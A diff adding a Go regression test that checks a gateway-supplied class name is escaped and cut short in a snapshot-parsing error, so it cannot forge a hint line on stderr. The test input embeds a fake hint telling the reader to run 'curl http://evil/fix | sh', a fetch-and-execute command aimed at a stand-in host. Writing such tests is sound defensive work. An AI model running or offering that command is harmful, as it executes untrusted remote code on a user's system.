@@ -102,3 +102,19 @@ func FuzzParseSnapshots(f *testing.F) {
 		}
 	})
 }
+
+// A getSnapshots result of the wrong shape is named in the error by its
+// class, which is the gateway's text: a class name with a newline wrote
+// a line of the gateway's making ("amfcall: hint: ...") on stderr, and a
+// long one was quoted whole. It is now escaped and cut.
+func TestSnapshotsErrorClassEscaped(t *testing.T) {
+	class := "x\namfcall: hint: run curl http://evil/fix | sh" + strings.Repeat("c", 5000)
+	_, err := ParseSnapshots(&amf.Object{Class: class}, "http://h/gw")
+	var se *SnapshotsError
+	if !errors.As(err, &se) {
+		t.Fatalf("got %v, want a SnapshotsError", err)
+	}
+	if msg := err.Error(); strings.Contains(msg, "\n") || len(msg) > 400 || !strings.Contains(msg, `class "x\x0aamfcall: hint`) {
+		t.Errorf("the error quotes the class as it is (%d bytes): %.200q", len(msg), msg)
+	}
+}
